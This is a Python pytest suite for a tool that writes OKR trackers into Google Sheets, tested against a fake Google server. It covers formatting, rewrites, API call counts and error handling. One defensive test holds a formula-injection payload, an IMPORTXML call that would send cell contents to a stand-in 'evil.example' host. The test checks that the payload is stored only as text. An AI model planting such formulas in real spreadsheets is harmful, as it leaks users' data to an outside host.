"""The Google Sheet tracker writer, over HTTP against the fake Sheets/Drive server.

Checks what lands in the sheet (values, number formats, status colours, frozen header,
widths, the history tab, the chart), that a rewrite replaces rather than piles up, that text
can never become a formula, the failure modes, and the exact number of API calls.
"""

from __future__ import annotations

import dataclasses
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from connectors.atomic import OutputError
from connectors.google_client import RetryPolicy
from connectors.gsheet_plan import plan_tabs
from connectors.gsheet_requests import build_requests
from connectors.gsheet_tracker import write_gsheet_tracker
from sheetsync.config import load_config
from sheetsync.core.dates import excel_serial as serial
from sheetsync.core.key_results import KeyResultResult
from sheetsync.core.kpis import KPIResult, SeriesPoint
from sheetsync.core.model import Config, GoogleConfig, TrackerConfig
from sheetsync.core.objectives import ObjectiveResult
from sheetsync.core.periods import parse_period
from sheetsync.core.results import SourceResult, SyncResult
from sheetsync.core.tracker import STATUS_LABELS, TAB_NAMES, TrackerContent, build_tracker
from sheetsync.errors import ConfigError
from tests.fake_google import FakeGoogle, fixtures
from tests.helpers import ROOT

fake_google = fixtures.fake_google
service_account_file = fixtures.service_account_file

AS_OF = date(2026, 11, 24)
EXPECTED = 55 / 92
STATUSES = ("on_track", "at_risk", "off_track", "done")


def make_result(n_krs: int = 3, title: str = "Grow revenue") -> SyncResult:
    """A result with `n_krs` key results over two objectives."""
    kpis = (
        KPIResult("revenue", "Revenue", "$", "increase", None, None, 338937.46, 296644.81, "no_target",
                  date(2026, 10, 1), AS_OF,
                  tuple(SeriesPoint(f"2026-W{w}", AS_OF, AS_OF, 100.0 * w, True) for w in (45, 46, 47)),
                  source="sales"),
        KPIResult("csat", "CSAT", "%", "increase", 0.9, 0.85, 0.8657, 0.8533, "at_risk",
                  date(2026, 11, 16), date(2026, 11, 22), source="support"),
    )  # fmt: skip
    krs: dict[str, list[KeyResultResult]] = {"O1": [], "O2": []}
    for i in range(n_krs):
        objective = "O1" if i % 2 == 0 else "O2"
        kpi, unit, current = ("csat", "%", 0.8657) if i % 2 == 0 else ("revenue", "$", 338937.46)
        progress = (i % 10) / 10
        krs[objective].append(
            KeyResultResult(
                id=f"{objective}-KR{i}", title=f"{title} {i}", kpi=kpi, objective=objective, owner="Ana",
                start=0.0, target=1.0 if unit == "%" else 500000.0, current=current, progress=progress,
                progress_raw=progress, expected=EXPECTED, status=STATUSES[i % 4], weight=1.0,
                direction="increase", unit=unit,
            )
        )
    objectives = tuple(
        ObjectiveResult(o, f"Objective {o}", "Lead", "Team", "", 0.5, "on_track", tuple(krs[o]), EXPECTED)
        for o in ("O1", "O2")
    )
    sources = (SourceResult("sales", "gsheet", "https://docs.google.com/spreadsheets/d/x", "Orders", 10,
                            datetime(2026, 11, 24, 7, tzinfo=UTC), "ok"),)  # fmt: skip
    return SyncResult("Acme", AS_OF, parse_period("2026-Q4"), EXPECTED, kpis, objectives, sources)


def make_content(n_krs: int = 3, weeks: int = 2, title: str = "Grow revenue") -> TrackerContent:
    result = make_result(n_krs, title)
    kr_history, kpi_history = [], []
    for w in range(weeks):
        week, as_of = f"2026-W{47 - w}", (AS_OF.toordinal() - 7 * w)
        day = date.fromordinal(as_of).isoformat()
        for kr in result.key_results:
            kr_history.append(dict(week=week, as_of=day, objective=kr.objective, kr_id=kr.id, title=kr.title,
                                   kpi=kr.kpi, current=kr.current, progress=kr.progress, expected=0.5,
                                   status=kr.status))  # fmt: skip
        kpi_history.append(dict(week=week, as_of=day, kpi_id="csat", title="CSAT", value=0.86, unit="%",
                                target=0.9, status="at_risk"))  # fmt: skip
    return build_tracker(result, kr_history=kr_history, kpi_history=kpi_history,
                         generated_at=datetime(2026, 11, 24, 7, 30, tzinfo=UTC), timezone="UTC")  # fmt: skip


class NoWait:
    def __init__(self) -> None:
        self.waits: list[float] = []
        self.now = 0.0

    def sleep(self, seconds: float) -> None:
        self.waits.append(seconds)
        self.now += seconds

    def clock(self) -> float:
        return self.now


def config_for(fake: FakeGoogle, creds: Path, tmp_path: Path, **tracker: Any) -> Config:
    base = load_config(ROOT / "config.toml")
    return dataclasses.replace(
        base,
        state_dir=tmp_path / "state",
        tracker=TrackerConfig(type="gsheet", **tracker),
        google=GoogleConfig(credentials=str(creds), api_url=fake.url),
    )


def write(config: Config, content: TrackerContent, timer: NoWait | None = None, **policy: Any) -> str:
    timer = timer or NoWait()
    options = {"base_delay": 1.0, "jitter": False, "total_timeout": 30.0, "max_attempts": 4, **policy}
    retry = RetryPolicy(**options, sleep=timer.sleep, clock=timer.clock)
    return write_gsheet_tracker(config, content, retry=retry)


def key_of(url: str) -> str:
    return url.split("/d/")[1].split("/")[0]


def rows_by_id(values: list[list[Any]], column: int = 1) -> dict[str, list[Any]]:
    return {row[column]: row for row in values[1:] if len(row) > column}


@pytest.fixture
def existing(fake_google: FakeGoogle) -> str:
    """A spreadsheet the user made and shared, with a tab of their own."""
    return fake_google.add_spreadsheet("Team tracker", {"Notes": [["keep me"]]})


# --- content -------------------------------------------------------------------------------------


def test_writes_tabs_values_and_formats(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str
) -> None:
    config = config_for(fake_google, service_account_file, tmp_path,
                        spreadsheet=f"https://docs.google.com/spreadsheets/d/{existing}/edit")  # fmt: skip
    url = write(config, make_content())
    assert url == f"https://docs.google.com/spreadsheets/d/{existing}/edit"
    ss = fake_google.spreadsheet(existing)
    assert ss.sheet_titles == ["Dashboard", "Key Results", "Check-ins", "KPIs", "History", "Sources", "Notes"]
    assert ss.values("Notes") == [["keep me"]]  # the user's own tab is left alone

    krs = ss.values("Key Results")
    assert tuple(krs[0]) == (
        "Objective", "Key result", "Title", "Owner", "KPI", "Start", "Target", "Current", "Progress",
        "Expected", "Status", "Change since last week", "Weight", "Updated", "Note", "Confidence",
        "Check-in", "Checked in", "Score", "Grade",
    )  # fmt: skip
    row = rows_by_id(krs)["O2-KR1"]
    assert row[:5] == ["O2", "O2-KR1", "Grow revenue 1", "Ana", "revenue"]
    assert row[7] == 338937.46 and row[8] == 0.1 and row[10] == "At risk"
    assert row[13] == serial(date(2026, 11, 24))  # a date cell holds its serial number
    shown = rows_by_id(ss.formatted("Key Results"))
    assert shown["O2-KR1"][7] == "$338,937" and shown["O1-KR0"][7] == "86.6%"
    assert shown["O2-KR1"][8] == "10%" and shown["O2-KR1"][13] == "2026-11-24"
    assert ss.cell("'Key Results'!N3").number_format == {"type": "DATE", "pattern": "yyyy-mm-dd"}
    assert ss.cell("'Key Results'!H4").number_format == {"type": "CURRENCY", "pattern": '"$"#,##0'}

    header = ss.cell("'Key Results'!A1").fmt
    assert header["textFormat"]["bold"] is True and "backgroundColor" in header
    sheet = ss.sheet("Key Results")
    assert sheet.properties["gridProperties"]["frozenRowCount"] == 1
    assert sheet.properties["gridProperties"]["frozenColumnCount"] == 3
    assert sheet.col_meta[2]["pixelSize"] == 44 * 7 + 5  # the template's Title width
    assert sheet.basic_filter is not None
    assert sheet.basic_filter["range"]["endRowIndex"] == 4  # header + 3 KRs

    history = ss.values("History")
    assert [r[1] for r in history[1:]] == [serial(date(2026, 11, 17))] * 4 + [serial(AS_OF)] * 4
    assert ss.formatted("History")[1][1] == "2026-11-17"
    assert ss.formatted("Dashboard")[0] == ["Acme OKRs · 2026-Q4"]
    assert ss.sheet("Dashboard").properties["gridProperties"].get("hideGridlines") is True
    (chart,) = ss.sheet("Dashboard").charts
    assert chart["spec"]["title"] == "Objective progress"
    assert chart["spec"]["basicChart"]["chartType"] == "BAR"


def test_status_colours_are_conditional_formats(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str
) -> None:
    write(config_for(fake_google, service_account_file, tmp_path, spreadsheet=existing), make_content(6))
    ss = fake_google.spreadsheet(existing)
    rules = ss.conditional_formats("Key Results")
    by_label = {
        r["booleanRule"]["condition"]["values"][0]["userEnteredValue"]: r
        for r in rules
        if r.get("booleanRule", {}).get("condition", {}).get("type") == "TEXT_EQ"
        and r["ranges"][0]["startColumnIndex"] == 10  # the Status column (Confidence has its own)
    }
    assert set(by_label) == set(STATUS_LABELS.values())
    on_track = by_label["On track"]
    assert on_track["ranges"] == [{"sheetId": ss.sheet("Key Results").sheet_id, "startRowIndex": 1,
                                   "endRowIndex": 7, "startColumnIndex": 10, "endColumnIndex": 11}]  # fmt: skip
    fmt = on_track["booleanRule"]["format"]
    assert fmt["backgroundColor"] == pytest.approx({"red": 0xDD / 255, "green": 0xF3 / 255, "blue": 0xE4 / 255})
    assert fmt["textFormat"]["bold"] is True
    assert any("gradientRule" in r for r in rules)  # the progress data bar, as a colour scale
    assert {r["booleanRule"]["condition"]["type"] for r in rules if "booleanRule" in r} >= {
        "NUMBER_GREATER", "NUMBER_LESS",
    }  # fmt: skip
    for tab in ("Dashboard", "KPIs", "History", "Sources"):
        assert ss.conditional_formats(tab), tab


def test_text_never_becomes_a_formula(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str
) -> None:
    evil = '=IMPORTXML("https://evil.example/?"&A1,"//x")'
    content = make_content(2, title=evil)
    write(config_for(fake_google, service_account_file, tmp_path, spreadsheet=existing), content)
    ss = fake_google.spreadsheet(existing)
    cell = ss.cell("'Key Results'!C2")
    assert cell.formula is None and cell.value == f"{evil} 0"
    (call,) = fake_google.calls_of("values.batchUpdate")
    assert call.method == "POST"
    assert ss.values("Key Results", render="FORMULA")[1][2] == f"{evil} 0"


def test_rewrite_replaces_rows_rules_and_chart(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str
) -> None:
    config = config_for(fake_google, service_account_file, tmp_path, spreadsheet=existing)
    write(config, make_content(12))
    ss = fake_google.spreadsheet(existing)
    rules_before = len(ss.conditional_formats("Key Results"))
    assert len(ss.values("Key Results")) == 13

    write(config, make_content(3, title="Renamed"))
    ss = fake_google.spreadsheet(existing)
    krs = ss.values("Key Results")
    assert len(krs) == 4  # last week's 12 rows are gone, not left under the new 3
    assert [r[2] for r in krs[1:]] == ["Renamed 0", "Renamed 2", "Renamed 1"]
    assert len(ss.conditional_formats("Key Results")) == rules_before  # replaced, not piled up
    assert len(ss.sheet("Dashboard").charts) == 1
    assert ss.sheet_titles.count("Key Results") == 1
    # Formats of the rows that emptied are reset too.
    assert ss.cell("'Key Results'!H10").fmt == {}


# --- calls ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("n_krs", [1, 8, 80])
def test_call_count_is_constant(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str, n_krs: int
) -> None:
    config = config_for(fake_google, service_account_file, tmp_path, spreadsheet=existing)
    write(config, make_content(n_krs, weeks=6))
    assert fake_google.call_counts() == {
        "oauth.token": 1, "spreadsheets.get": 1, "spreadsheets.batchUpdate": 1, "values.batchUpdate": 1,
    }  # fmt: skip
    fake_google.reset_calls()
    write(config, make_content(n_krs, weeks=6))
    assert fake_google.call_counts() == {  # the first write's token is still good: no token request
        "spreadsheets.get": 1, "spreadsheets.batchUpdate": 1, "values.batchUpdate": 1,
    }  # fmt: skip
    assert len(fake_google.spreadsheet(existing).values("Key Results")) == n_krs + 1
    assert len(fake_google.spreadsheet(existing).values("History")) == 6 * n_krs + 6 + 1


def test_create_and_share_once(fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path) -> None:
    config = config_for(fake_google, service_account_file, tmp_path, create="Acme OKRs",
                        share=("ana@example.com", "bo@example.com"))  # fmt: skip
    url = write(config, make_content())
    assert fake_google.call_counts() == {
        "oauth.token": 1, "drive.files.list": 1, "drive.files.create": 1, "spreadsheets.get": 1,
        "spreadsheets.batchUpdate": 1, "values.batchUpdate": 1, "drive.permissions.create": 2,
    }  # fmt: skip  (the list: no tracker made earlier for this project and title)
    ss = fake_google.spreadsheet(key_of(url))
    assert ss.title == "Acme OKRs"
    assert ss.sheet_titles == list(TAB_NAMES)  # the blank Sheet1 is gone
    assert ss.owner_email == fixtures.SERVICE_ACCOUNT_EMAIL
    shared = {p.get("emailAddress"): p["role"] for p in ss.permissions}
    assert shared["ana@example.com"] == shared["bo@example.com"] == "writer"
    state = json.loads((tmp_path / "state" / "gsheet_tracker.json").read_text())
    assert state == {"create": "Acme OKRs", "spreadsheet_id": key_of(url), "written": True,
                     "shared": ["ana@example.com", "bo@example.com"],
                     "tabs": {"key": key_of(url), "titles": sorted(TAB_NAMES)}}  # fmt: skip

    fake_google.reset_calls()
    assert write(config, make_content()) == url  # the same spreadsheet, not a new one
    assert "drive.files.create" not in fake_google.call_counts()
    assert "drive.permissions.create" not in fake_google.call_counts()
    assert len(fake_google.spreadsheets) == 1

    # The state folder lost (a container that does not keep it): the one made before is found.
    (tmp_path / "state" / "gsheet_tracker.json").unlink()
    fake_google.reset_calls()
    assert write(config, make_content()) == url
    assert len(fake_google.spreadsheets) == 1 and "drive.files.create" not in fake_google.call_counts()
    other = dataclasses.replace(config, name="Another project", state_dir=tmp_path / "other")  # the same title, not it
    assert write(other, make_content()) != url and len(fake_google.spreadsheets) == 2


def test_created_spreadsheet_deleted_by_someone_is_recreated(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path
) -> None:
    config = config_for(fake_google, service_account_file, tmp_path, create="Acme OKRs")
    first = write(config, make_content())
    fake_google._spreadsheets.pop(key_of(first))
    second = write(config, make_content())
    assert second != first and fake_google.spreadsheet(key_of(second)).sheet_titles == list(TAB_NAMES)


# --- failures ----------------------------------------------------------------------------------------


def test_403_names_the_account_and_leaves_the_sheet(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str
) -> None:
    fake_google.deny(existing)
    config = config_for(fake_google, service_account_file, tmp_path, spreadsheet=existing)
    with pytest.raises(OutputError) as err:
        write(config, make_content())
    message = str(err.value)
    assert f"share the spreadsheet with {fixtures.SERVICE_ACCOUNT_EMAIL} as Editor" in message
    assert existing in message and "before changing anything" in message
    fake_google.allow(existing)
    assert fake_google.spreadsheet(existing).sheet_titles == ["Notes"]


def test_storm_during_formatting_leaves_the_last_good_tracker(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str
) -> None:
    config = config_for(fake_google, service_account_file, tmp_path, spreadsheet=existing)
    write(config, make_content(4))
    ss = fake_google.spreadsheet(existing)
    before = {t: ss.values(t) for t in ss.sheet_titles}
    rules = ss.conditional_formats("Key Results")
    fake_google.fail_next(100, status=429, kind="spreadsheets.batchUpdate")
    timer = NoWait()
    with pytest.raises(OutputError) as err:
        write(config, make_content(9, title="New"), timer)
    assert "HTTP 429" in str(err.value) and "before changing anything" in str(err.value)
    assert timer.waits == [1.0, 2.0, 4.0]  # bounded: max_attempts=4
    ss = fake_google.spreadsheet(existing)
    assert {t: ss.values(t) for t in ss.sheet_titles} == before
    assert ss.conditional_formats("Key Results") == rules
    assert "values.batchUpdate" not in {k for k, v in fake_google.call_counts().items() if v > 1}


def test_failure_of_the_values_write_is_reported_honestly(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path, existing: str
) -> None:
    config = config_for(fake_google, service_account_file, tmp_path, spreadsheet=existing)
    write(config, make_content(4))
    before = fake_google.spreadsheet(existing).values("Key Results")
    fake_google.fail_next(100, status=500, kind="values.batchUpdate")
    with pytest.raises(OutputError) as err:
        write(config, make_content(9, title="New"))
    assert "last run's values under this run's formats" in str(err.value)
    assert fake_google.spreadsheet(existing).values("Key Results") == before  # values are last run's, whole


def test_bad_settings(fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"tracker\.spreadsheet"):
        write(config_for(fake_google, service_account_file, tmp_path, spreadsheet="https://example.com/x"),
              make_content())  # fmt: skip
    with pytest.raises(ConfigError, match="does not exist"):
        write(config_for(fake_google, tmp_path / "missing.json", tmp_path, spreadsheet="abc"), make_content())
    assert fake_google.calls == []


# --- the plan (pure) ------------------------------------------------------------------------------


def test_plan_and_requests_are_sized_for_big_trackers() -> None:
    content = make_content(200, weeks=52)
    plans = plan_tabs(content)
    requests, data = build_requests(plans, [])
    body = json.dumps({"requests": requests})
    values = json.dumps({"valueInputOption": "RAW", "data": data})
    # Runs of equal formats are merged: requests grow with varying formats, not with cells.
    assert len(requests) < 2500
    assert len(body) < 1_500_000 and len(values) < 2_000_000  # under Google's 2 MB advice
    history = next(p for p in plans if p.title == "History")
    assert history.rows == 52 * 200 + 52 + 1


def test_service_account_without_drive_storage_is_told_what_to_do(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path
) -> None:
    fake_google.fail_next(1, status=403, kind="drive.files.create", drive_reason="storageQuotaExceeded",
                          message="Service Accounts do not have storage quota.")  # fmt: skip
    config = config_for(fake_google, service_account_file, tmp_path, create="Acme OKRs")
    with pytest.raises(OutputError) as err:
        write(config, make_content())
    message = str(err.value)
    assert "no Drive storage" in message and "Create the spreadsheet yourself" in message
    assert f"share it with {fixtures.SERVICE_ACCOUNT_EMAIL} as Editor" in message
    assert fake_google.call_counts() == {"oauth.token": 1, "drive.files.list": 1,  # none made earlier
                                         "drive.files.create": 1}  # not retried
    assert not (tmp_path / "state" / "gsheet_tracker.json").exists()


def test_a_create_whose_answer_was_lost_makes_one_spreadsheet(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path
) -> None:
    """The create happened but its answer never came: sheetsync finds it instead of making another."""
    config = config_for(fake_google, service_account_file, tmp_path, create="Acme OKRs")
    fake_google.drop_next(1, kind="drive.files.create", after=True)
    url = write(config, make_content())
    assert [ss.title for ss in fake_google.spreadsheets] == ["Acme OKRs"]
    assert fake_google.spreadsheet(key_of(url)).sheet_titles == list(TAB_NAMES)
    counts = fake_google.call_counts()
    assert counts["drive.files.create"] == 1 and counts["drive.files.list"] == 2  # an earlier one? the lost one?


def test_a_create_that_never_arrived_is_made_again(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path
) -> None:
    """The connection dropped before Google did anything: the search finds nothing, the create is repeated."""
    config = config_for(fake_google, service_account_file, tmp_path, create="Acme OKRs")
    fake_google.drop_next(1, kind="drive.files.create")
    write(config, make_content())
    assert [ss.title for ss in fake_google.spreadsheets] == ["Acme OKRs"]
    assert fake_google.call_counts()["drive.files.create"] == 2


def test_a_create_left_in_doubt_is_looked_for_on_the_next_sync(
    fake_google: FakeGoogle, service_account_file: Path, tmp_path: Path
) -> None:
    config = config_for(fake_google, service_account_file, tmp_path, create="Acme OKRs")
    fake_google.drop_next(1, kind="drive.files.create", after=True)  # made, answer lost
    # the search for an earlier tracker finds none; the one for the lost create fails too (4 attempts)
    fake_google.fail_next(4, status=503, kind="drive.files.list", skip=1)
    with pytest.raises(OutputError):
        write(config, make_content())
    state = json.loads((tmp_path / "state" / "gsheet_tracker.json").read_text())
    assert state["create"] == "Acme OKRs" and state["pending"]
    fake_google.reset_calls()
    url = write(config, make_content())  # the next sync finds the one made, and uses it
    assert [ss.title for ss in fake_google.spreadsheets] == ["Acme OKRs"]
    assert key_of(url) == fake_google.spreadsheets[0].id
    assert "drive.files.create" not in fake_google.call_counts()
